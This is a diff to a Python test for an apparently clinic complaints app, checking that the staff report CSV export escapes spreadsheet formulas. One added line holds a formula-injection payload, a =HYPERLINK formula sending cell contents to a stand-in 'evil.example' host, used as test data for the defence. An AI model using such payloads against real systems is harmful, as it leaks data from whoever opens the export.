@@ -132,6 +132,12 @@ def test_CMP_3_REL_5_reports_show_the_numbers(app):
     md = app.test_client()
     sign_in(md, "md.admin@demo.local")
     assert re.search(r"<dd>2</dd>", md.get("/staff/reports").get_data(as_text=True))
+    evil, evil_ctx = register(email="evil@kangjian.cn", name='=HYPERLINK("http://evil.example/?"&A1,"click")')
+    standing(evil)
+    tickets.file(evil_ctx, "ortho", "complaint", "一", "x")
+    tickets.file(fresh(evil_ctx), "ortho", "complaint", "二", "y")
+    exported = leader.get("/staff/reports?scope=ortho&days=30&format=csv").get_data(as_text=True)
+    assert "repeat_complainer,\"'=HYPERLINK(" in exported and ",=HYPERLINK" not in exported  # SEC-2, DESIGN 14
 
 
 def test_CMP_1_files_on_a_ticket_through_the_pages_and_the_api(app):
